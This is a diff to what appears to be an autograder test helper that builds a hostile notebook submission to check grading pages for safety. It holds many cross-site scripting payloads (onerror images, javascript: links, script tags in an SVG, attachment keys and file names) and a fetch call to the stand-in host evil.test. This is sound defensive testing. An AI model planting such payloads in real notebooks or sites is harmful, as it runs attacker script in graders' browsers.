@@ -6,13 +6,13 @@ Whatever runs sets `pwned` in the page or asks the host `evil.test`. `hand_in` w
 import json
 from pathlib import Path
 
-import nbformat
 from nbformat import NotebookNode
 from nbformat.v4 import new_code_cell, new_markdown_cell
 
 from autograder.realign import grade_id
 from autograder.simulate import fill
 
+NAME = "eve <img src=x onerror=top.pwned=1>"
 HOST = "http://evil.test"
 PWN = f"top.pwned=1;fetch('{HOST}/ran')"
 PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
@@ -51,7 +51,7 @@ MARKDOWN = f"""# <img src=x onerror="{PWN}"> My own heading
 | 1 | **2** |
 
 [a link](javascript:{PWN}) ![a picture]({HOST}/picture.png) [the lesson](https://example.org/) [my plot](plot.html)
-[my drawing](plot.svg) ![drawn](attachment:drawn.png)
+[my drawing](plot.svg)
 
 $\\href{{javascript:{PWN}}}{{x}}$ <b onmouseover="{PWN}">bold</b>
 
@@ -103,7 +103,8 @@ def hand_in(folder: Path, released: NotebookNode, answers: dict[str, str]) -> No
     notebook = fill(released, answers | ANSWERS)
     first = next(index for index, cell in enumerate(notebook.cells) if grade_id(cell) == "answer_1")
     drawn = {"drawn.png": {"image/png": PIXEL, f'"><script>{PWN}</script>': "x"}}
-    own = [new_markdown_cell(MARKDOWN, attachments=drawn), new_code_cell(DISPLAY), new_markdown_cell(HTML)]
+    attached = new_markdown_cell("I have *drawn* ![it](attachment:drawn.png)", attachments=drawn)
+    own = [new_markdown_cell(MARKDOWN), new_code_cell(DISPLAY), new_markdown_cell(HTML), attached]
     for cell in own:
         cell.metadata = {"tags": ["x navbar-fixed-top hidden", HTML], "magics_language": HTML}
     notebook.cells[first:first] = own
@@ -117,8 +118,3 @@ def hand_in(folder: Path, released: NotebookNode, answers: dict[str, str]) -> No
     svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{PWN}</script></svg>'
     (folder / "plot.svg").write_text(svg, encoding="utf-8")
     (folder / f'"><img src=x onerror="{PWN.split(";")[0]}">.png').write_bytes(b"")
-
-
-def read_released(course: Path) -> NotebookNode:
-    """The quiz as students are given it."""
-    return nbformat.read(course / "release" / "08_quiz" / "quiz.ipynb", as_version=4)
